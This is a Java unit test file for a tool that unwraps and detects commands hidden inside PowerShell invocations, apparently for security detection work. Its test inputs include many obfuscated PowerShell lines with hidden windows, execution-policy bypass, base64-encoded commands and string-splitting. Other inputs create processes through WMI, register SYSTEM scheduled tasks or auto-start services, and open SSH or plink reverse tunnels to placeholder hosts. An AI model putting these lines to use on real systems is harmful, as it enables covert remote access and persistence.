package dev.backflow.commandline;

import static dev.backflow.commandline.Unwrapped.inside;
import static dev.backflow.commandline.Unwrapped.lines;
import static dev.backflow.commandline.Unwrapped.only;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PowerShellWrapperTest {
  private static final String SSH = "ssh -N -R 8080:localhost:80 u@h.example.com";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "powershell " + SSH,
        "powershell.exe -c " + SSH,
        "powershell /c " + SSH,
        "\"powershell.exe\" /Command " + SSH,
        "pwsh -NoProfile -Com \"" + SSH + "\"",
        "powershell -nop -w hidden -ep bypass -c \"" + SSH + "\"",
        "powershell -NoP -NonI -WindowStyle Hidden -ExecutionPolicy Bypass -Command " + SSH,
        "powershell -ex bypass -v 2 -sta -c " + SSH,
        "powershell -c \"& {" + SSH + "}\"",
        "powershell -c \"$p = " + SSH + "\"",
        "powershell -c \"$p=" + SSH + "\"",
        "powershell -c \". " + SSH + "\"",
        "powershell -c \"& 'ssh' -N -R '8080:localhost:80' u@h.example.com\"",
        "powershell -c \"if ($true) { " + SSH + " }\"",
        "powershell -c \"Start-Sleep 5; " + SSH + " 2>&1 > out.txt\"",
        "powershell -c \"Set-Location C:\\; " + SSH + " | Out-Null\"",
        "powershell -c \"ssh `-N -R 8080:local`host:80 u@h.example.com\"",
        "powershell -c \"ssh --% -N -R 8080:localhost:80 u@h.example.com\"",
        "powershell -c \"iex '" + SSH + "'\"",
        "powershell -c \"'" + SSH + "' | iex\"",
        "powershell -c \"Start-Job { " + SSH + " }\"",
        "powershell -c \"while(1){" + SSH + ";sleep 5}\"",
        "powershell -c \"$(" + SSH + ")\"",
        "powershell \u2013c " + SSH,
        "powershell -c \"$c = '" + SSH + "'; iex $c\"",
        "powershell -c \"iex ('ss'+'h -N -R 8080:' + 'localhost:80 u@h.example.com')\"",
        "powershell -c \"iex ('{1} -N -R {0}:localhost:80 u@h.example.com' -f 8080, 'ssh')\"",
        "powershell -c \"('ssh','-N','-R','8080:localhost:80','u@h.example.com' -join ' ')|iex\"",
        "powershell -c \"& ('s'+'sh') -N -R 8080:localhost:80 u@h.example.com\"",
        "powershell -c \"& (-join('s','sh')) -N -R 8080:localhost:80 u@h.example.com\"",
        "powershell -c \"$p='ssh'; & $p -N -R 8080:localhost:80 u@h.example.com\"",
        "powershell -c \"$a='-N','-R','8080:localhost:80','u@h.example.com'; Start-Process ssh $a\"",
        "powershell -c \"$a=@('-N','-R','8080:localhost:80','u@h.example.com'); ssh @a\"",
        "powershell -c \"$i = New-Object Diagnostics.ProcessStartInfo; $i.FileName='ssh';"
            + " $i.Arguments = '-N -R 8080:localhost:80 u@h.example.com';"
            + " [Diagnostics.Process]::Start($i)\"",
      })
  void the_command_comes_out_of_every_form_of_powershell(String line) {
    UnwrappedCommand command = only(line);
    assertThat(command.commandLine()).isEqualTo(SSH);
    assertThat(command.wrappedBy()).startsWith("powershell");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-nop -w hidden -Encoded"})
  void an_encoded_command_is_decoded(String option) {
    String encoded = Base64.getEncoder().encodeToString(SSH.getBytes(StandardCharsets.UTF_16LE));
    assertThat(only("powershell " + option + " " + encoded).commandLine()).isEqualTo(SSH);
  }

  @Test
  void a_script_that_decodes_itself_is_decoded() {
    String narrow = Base64.getEncoder().encodeToString(SSH.getBytes(StandardCharsets.UTF_8));
    String wide = Base64.getEncoder().encodeToString(SSH.getBytes(StandardCharsets.UTF_16LE));
    String decode = "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('";
    for (String encoded : List.of(narrow, wide)) {
      String line = "powershell -c \"iex (" + decode + encoded + "')))\"";
      assertThat(only(line).commandLine()).isEqualTo(SSH);
      String assigned = "powershell -c \"$c=" + decode + encoded + "')); $c | iex\"";
      assertThat(only(assigned).commandLine()).isEqualTo(SSH);
    }
  }

  @Test
  void an_encoded_command_cut_short_gives_what_is_there() {
    String encoded = Base64.getEncoder().encodeToString(SSH.getBytes(StandardCharsets.UTF_16LE));
    assertThat(only("powershell -enc " + encoded.substring(0, 33)).commandLine())
        .isEqualTo("ssh -N -R 80");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Start-Process ssh -ArgumentList '-N -R 8080:localhost:80 u@h.example.com'",
        "Start-Process -FilePath ssh -ArgumentList '-N','-R','8080:localhost:80',u@h.example.com",
        "Start-Process ssh -Arg @('-N', '-R', '8080:localhost:80', 'u@h.example.com') -NoNewWindow",
        "saps -WindowStyle Hidden ssh '-N -R 8080:localhost:80 u@h.example.com' -PassThru",
        "start ssh -Args '-N -R 8080:localhost:80 u@h.example.com' -Wait",
        "$p = Start-Process -FilePath:ssh -ArgumentList:'-N -R 8080:localhost:80 u@h.example.com'",
        "Start-Process -Verb RunAs ssh ('-N','-R','8080:localhost:80','u@h.example.com')",
      })
  void start_process_joins_its_arguments_with_blanks(String script) {
    UnwrappedCommand command = only("powershell -c \"" + script + "\"");
    assertThat(command.commandLine()).isEqualTo(SSH);
    assertThat(command.wrappedBy()).containsExactly("powershell", "Start-Process");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "[Diagnostics.Process]::Start('ssh','-N -R 8080:localhost:80 u@h.example.com')",
        "(New-Object -ComObject WScript.Shell).Run('" + SSH + "',0)",
        "([wmiclass]'win32_process').Create('" + SSH + "')",
        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList '" + SSH + "'",
        "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments"
            + " @{CommandLine = '"
            + SSH
            + "'}",
        "icim Win32_Process Create @{CommandLine='" + SSH + "'; CurrentDirectory='C:\\'}",
      })
  void methods_that_start_programs_are_opened(String script) {
    assertThat(lines("powershell -c \"" + script + "\"")).contains(SSH);
  }

  @Test
  void a_value_with_blanks_reaches_the_program_in_quotes() {
    assertThat(lines("powershell -c \"& 'C:\\Program Files\\ssh.exe' -o 'RemoteForward 1 h:2' h\""))
        .containsExactly("\"C:\\Program Files\\ssh.exe\" -o \"RemoteForward 1 h:2\" h");
  }

  @Test
  void the_pipe_of_the_classic_form_answers_for_the_server_key() {
    UnwrappedCommand command =
        only(
            "\"powershell.exe\" /c echo y | plink.exe -N -T -R 0.0.0.0:1251:127.0.0.1:3389"
                + " 192.0.2.10 -P 22 -l forward -pw P@ss -no-antispoof");
    assertThat(command.commandLine())
        .isEqualTo(
            "plink.exe -N -T -R 0.0.0.0:1251:127.0.0.1:3389 192.0.2.10 -P 22 -l forward -pw P@ss"
                + " -no-antispoof");
    assertThat(command.hostKeyAnsweredByPipe()).isTrue();
    assertThat(command.wrappedBy()).containsExactly("powershell", "pipeline");
  }

  @Test
  void a_string_in_quotes_without_the_call_operator_is_no_command() {
    UnwrappedCommand command = only("powershell -c \"'C:\\t\\ssh.exe' -R 1080 u@h\"");
    assertThat(command.refusal()).contains("PowerShell");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "powershell",
        "powershell -c",
        "powershell -c -",
        "powershell -File C:\\x\\tunnel.ps1 -R 8080:localhost:80",
        "powershell -f tunnel.ps1",
        "powershell C:\\x\\tunnel.ps1",
        "powershell -enc",
        "powershell -enc {}",
        "powershell -c \"Write-Host ssh -R 8080:localhost:80 u@h\"",
        "powershell -c \"# ssh -R 8080:localhost:80 u@h\"",
        "powershell -c \"<# ssh -R 8080:localhost:80 u@h #>\"",
        "powershell -c \"'ssh -R 8080:localhost:80 u@h'\"",
        "powershell -c \"$x = 'ssh -R 8080:localhost:80 u@h'\"",
        "powershell -c \"Get-Content x | Select-String RemoteForward\"",
      })
  void scripts_that_run_no_program_hold_nothing(String line) {
    assertThat(inside(line)).isEmpty();
  }

  @Test
  void a_task_registered_by_cmdlets_has_its_name_account_and_trigger() {
    UnwrappedCommand task =
        only(
            "powershell -c \"$a = New-ScheduledTaskAction -Execute 'C:\\p d\\ssh.exe' -Argument"
                + " '-N -R 369:127.0.0.1:2222 root@192.0.2.4'; $t = New-ScheduledTaskTrigger"
                + " -AtStartup; Register-ScheduledTask -TaskName 'Key Exchange' -Action $a"
                + " -Trigger $t -User SYSTEM\"");
    assertThat(task.commandLine())
        .isEqualTo("\"C:\\p d\\ssh.exe\" -N -R 369:127.0.0.1:2222 root@192.0.2.4");
    assertThat(task.registered()).isTrue();
    assertThat(task.name()).isEqualTo("Key Exchange");
    assertThat(task.runAs()).isEqualTo("SYSTEM");
    assertThat(task.trigger()).isEqualTo("atstartup");
    assertThat(task.wrappedBy()).containsExactly("powershell", "Register-ScheduledTask");
  }

  @Test
  void an_action_in_parentheses_is_found() {
    UnwrappedCommand task =
        only(
            "powershell -c Register-ScheduledTask T -Action (New-ScheduledTaskAction ssh"
                + " '-R 1080 u@h') -Principal (New-ScheduledTaskPrincipal -UserId 'NT"
                + " AUTHORITY\\SYSTEM')");
    assertThat(task.commandLine()).isEqualTo("ssh -R 1080 u@h");
    assertThat(task.name()).isEqualTo("T");
    assertThat(task.runAs()).isEqualTo("NT AUTHORITY\\SYSTEM");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "$s = $w.CreateShortcut('x.lnk'); $s.TargetPath = 'ssh'; $s.Arguments = '-R 1080 u@h'",
        "$a = $t.Actions.Create(0); $a.Path='ssh'; $a.Arguments='-R 1080 u@h'",
      })
  void a_program_described_by_properties_is_registered(String script) {
    UnwrappedCommand command =
        Unwrapped.inside("powershell -c \"" + script + "\"").stream()
            .filter(UnwrappedCommand::registered)
            .findFirst()
            .orElseThrow();
    assertThat(command.commandLine()).isEqualTo("ssh -R 1080 u@h");
  }

  @Test
  void a_service_registered_by_cmdlet_is_found() {
    UnwrappedCommand service =
        only(
            "powershell New-Service -Name Tun -BinaryPathName 'C:\\t\\ssh.exe -R 1080 u@h'"
                + " -StartupType Automatic");
    assertThat(service.commandLine()).isEqualTo("C:\\t\\ssh.exe -R 1080 u@h");
    assertThat(service.registered()).isTrue();
    assertThat(service.name()).isEqualTo("Tun");
    assertThat(service.trigger()).isEqualTo("Automatic");
  }
}
